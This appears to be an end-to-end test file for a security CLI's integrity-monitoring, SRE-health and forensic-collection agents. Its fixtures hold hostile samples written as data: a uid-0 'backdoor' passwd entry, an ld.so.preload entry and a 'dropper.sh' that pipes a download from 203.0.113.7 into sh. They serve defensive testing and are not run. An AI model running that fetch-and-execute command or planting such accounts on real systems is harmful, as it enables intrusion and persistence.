import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:net';
import { createServer as createNetServer } from 'node:net';
import { createServer as createTlsServer } from 'node:tls';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CliEvent } from './sandbox.js';
import { hasTool, runAgentCli, sandbox } from './sandbox.js';

// instance-integrity, sre-health and forensic-collector through `okesu agents run --local`, against files, a
// filesystem threshold and TLS servers the test owns. No model key.

let box: ReturnType<typeof sandbox>;
const servers: Server[] = [];
const haveOpenssl = hasTool('openssl');

/** A TLS server on 127.0.0.1 with a fresh self-signed P-256 certificate valid for `days`; its port. */
async function tlsServer(days: number): Promise<number> {
  const key = join(box.dir, `key-${days}.pem`);
  const cert = join(box.dir, `cert-${days}.pem`);
  const r = spawnSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-days', String(days), '-nodes',
    '-subj', '/CN=localhost', '-keyout', key, '-out', cert], { stdio: 'pipe' });
  if (r.status !== 0) throw new Error(`openssl req failed: ${r.stderr.toString()}`);
  const server = createTlsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (socket) => socket.end());
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return typeof address === 'object' && address ? address.port : 0;
}

const closedPort = (): Promise<number> =>
  new Promise((resolve) => {
    const s = createNetServer().listen(0, '127.0.0.1', () => {
      const a = s.address();
      s.close(() => resolve(typeof a === 'object' && a ? a.port : 0));
    });
  });

beforeAll(() => {
  box = sandbox('okesu-health-e2e-');
});
afterAll(() => {
  for (const s of servers) s.close();
  box.cleanup();
});

const summary = (f: CliEvent) => ({ severity: f.severity, title: f.title, category: f.category, resource: f.resource });
const ruleOfFinding = (f: CliEvent) => (f.attributes as { rule?: string } | undefined)?.rule;

function expectCompleted(r: { code: number | null; stderr: string; events: CliEvent[] }, model = true): void {
  expect(r.code, r.stderr).toBe(0);
  expect(r.events.some((e) => e.type === 'api_unavailable')).toBe(model);
  expect(r.events.at(-1)).toMatchObject({ type: 'run_end', status: 'completed' });
}

describe('instance-integrity through the CLI', () => {
  it('records a baseline first, then reports content and permission drift of watched files', async () => {
    const watched = join(box.dir, 'etc');
    mkdirSync(join(watched, 'sudoers.d'), { recursive: true });
    writeFileSync(join(watched, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\n', { mode: 0o644 });
    writeFileSync(join(watched, 'sudoers.d', 'ops'), 'ops ALL=(ALL) ALL\n', { mode: 0o440 });
    const inputs = { watched_paths: [join(watched, 'passwd'), join(watched, 'sudoers.d'), join(watched, 'ld.so.preload')], verify_packages: ['okesu-no-such-package'] };
    const state = join(box.dir, 'integrity-state');
    const first = await runAgentCli('instance-integrity', inputs, state, box.policy);
    expectCompleted(first);
    expect(first.findings).toEqual([]);

    writeFileSync(join(watched, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\nbackdoor:x:0:0::/:/bin/sh\n');
    chmodSync(join(watched, 'sudoers.d', 'ops'), 0o666);
    writeFileSync(join(watched, 'sudoers.d', 'new-file'), 'x\n'); // a new key joins the baseline silently
    const second = await runAgentCli('instance-integrity', inputs, state, box.policy);
    expectCompleted(second);
    // Kernel modules loaded between the runs (none, usually) are another rule's business.
    const drift = second.findings.filter((f) => ruleOfFinding(f) !== 'new-kernel-module');
    expect(drift.map(summary).sort((a, b) => String(a.title).localeCompare(String(b.title)))).toEqual([
      { severity: 'MEDIUM', title: 'Owner or mode of a watched file changed', category: 'file', resource: `path:${watched}/sudoers.d/ops` },
      { severity: 'HIGH', title: 'Watched file changed since the baseline', category: 'file', resource: `path:${watched}/passwd` },
    ]);
    const sha = createHash('sha256').update(readFileSync(join(watched, 'passwd'))).digest('hex');
    expect(drift.find((f) => f.title === 'Watched file changed since the baseline')?.evidence).toEqual([`sha256=${sha} path=${watched}/passwd`]);

    // The appearance of a watched path that did not exist is drift too.
    writeFileSync(join(watched, 'ld.so.preload'), '/lib/x.so\n');
    const third = await runAgentCli('instance-integrity', inputs, state, box.policy);
    expect(third.findings.filter((f) => ruleOfFinding(f) === 'file-content-drift').map((f) => f.resource).sort()).toEqual([
      `path:${watched}/ld.so.preload`,
      `path:${watched}/passwd`,
    ]);
  });
});

describe('sre-health through the CLI', () => {
  const quiet = { inode_full_pct: 101, mem_low_pct: -1, load_per_cpu: 1_000_000, oom_window_minutes: 0, ignore_units: ['*'] };

  it('reports a filesystem over the threshold, a certificate expiring within the window and an endpoint with no TLS', async () => {
    const endpoints = haveOpenssl ? [`127.0.0.1:${await tlsServer(3)}`, `127.0.0.1:${await tlsServer(30)}`, `127.0.0.1:${await closedPort()}`] : ['127.0.0.1:9'];
    const ranFrom = Date.now();
    const r = await runAgentCli('sre-health', { ...quiet, disk_paths: [box.dir], disk_full_pct: 0, tls_endpoints: endpoints, cert_days: 7 },
      join(box.dir, 'sre-state'), box.policy);
    expectCompleted(r);
    const disk = r.findings.filter((f) => ruleOfFinding(f) === 'disk-full');
    expect(disk.map(summary)).toEqual([{ severity: 'HIGH', title: 'Filesystem is almost full', category: 'config', resource: expect.stringMatching(/^mount:\//) }]);
    if (!haveOpenssl) {
      expect(r.collector('tls_certs')).toMatchObject({ skipped: true, skip_reason: expect.stringMatching(/openssl is not installed/) });
      return;
    }
    const certs = r.findings.filter((f) => f.category === 'cert');
    expect(certs.map(summary)).toEqual([
      { severity: 'HIGH', title: 'TLS certificate expires soon', category: 'cert', resource: `endpoint:${endpoints[0]}` },
      { severity: 'MEDIUM', title: 'TLS endpoint did not present a certificate', category: 'cert', resource: `endpoint:${endpoints[2]}` },
    ]);
    const evidence = /^status=ok days_left=(\d+) not_after=(\S+Z) endpoint=(\S+) subject=CN=localhost$/.exec(String((certs[0]?.evidence as unknown[] | undefined)?.[0]));
    expect(evidence?.[3]).toBe(endpoints[0]);
    // Whole days left at the moment the collector ran: 3 when it ran in the second the 3-day certificate was made, 2
    // after that. The collector's clock read lies between ranFrom and now, so the answer is one of those two floors.
    const notAfter = Date.parse(evidence?.[2] ?? '');
    const wholeDays = (at: number): number => Math.floor((notAfter / 1000 - Math.floor(at / 1000)) / 86_400); // as `date +%s` counts
    expect([wholeDays(Date.now()), wholeDays(ranFrom)]).toContain(Number(evidence?.[1]));
  });

  it('finds nothing on a clean sandbox and says why the checks it could not make were skipped', async () => {
    const r = await runAgentCli('sre-health', { ...quiet, disk_paths: [box.dir], disk_full_pct: 101 }, join(box.dir, 'sre-clean'), box.policy);
    expectCompleted(r);
    expect(r.findings).toEqual([]);
    expect(r.collector('tls_certs')).toMatchObject({ skipped: true, skip_reason: expect.stringMatching(/no tls_endpoints configured/) });
    expect(r.collector('oom_kills')).toMatchObject({ skipped: true, skip_reason: expect.stringMatching(/oom_window_minutes is 0/) });
    for (const name of ['disk', 'inodes', 'memory', 'load']) expect(r.collector(name)).toMatchObject({ exit_code: 0 });
  });
});

describe('forensic-collector through the CLI', () => {
  it('copies every collector’s output into the transcript and ends with a summary holding the hashes of the given paths', async () => {
    const evidence = join(box.dir, 'evidence');
    mkdirSync(join(evidence, 'nested'), { recursive: true });
    writeFileSync(join(evidence, 'dropper.sh'), '#!/bin/sh\ncurl http://203.0.113.7/x | sh\n');
    writeFileSync(join(evidence, 'nested', 'config.json'), '{"pool":"stratum"}\n');
    const sha = (p: string) => createHash('sha256').update(readFileSync(p)).digest('hex');
    const r = await runAgentCli('forensic-collector', { paths: [evidence, join(box.dir, 'missing')], recent_dirs: [evidence], recent_minutes: 60 },
      join(box.dir, 'forensic-state'), box.policy);
    expectCompleted(r, false);
    const collected = r.events.filter((e) => e.type === 'collector_result');
    expect(collected.map((e) => e.name)).toEqual(['processes', 'executables', 'network', 'logins', 'persistence', 'recent_files', 'input_hashes', 'target_process', 'system']);
    for (const e of collected.filter((c) => !c.skipped)) expect(typeof e.output).toBe('string');
    expect(r.collector('target_process')).toMatchObject({ skipped: true, skip_reason: expect.stringMatching(/no pid given/) });
    expect(String(r.collector('recent_files')?.output)).toContain(`path=${evidence}/dropper.sh`);

    const results = r.events.filter((e) => e.type === 'orchestration_result');
    expect(results).toHaveLength(1);
    const attributes = results[0]?.attributes as Record<string, unknown>;
    expect(attributes.hashes).toEqual({
      [join(evidence, 'dropper.sh')]: sha(join(evidence, 'dropper.sh')),
      [join(evidence, 'nested', 'config.json')]: sha(join(evidence, 'nested', 'config.json')),
      [join(box.dir, 'missing')]: 'absent',
    });
    expect(attributes.collectors).toMatchObject({ input_hashes: { status: 'collected', lines: 3 }, target_process: { status: 'skipped' } });
    expect(attributes.counts).toMatchObject({ hashed_paths: 3, recent_files: 2 });
  });
});
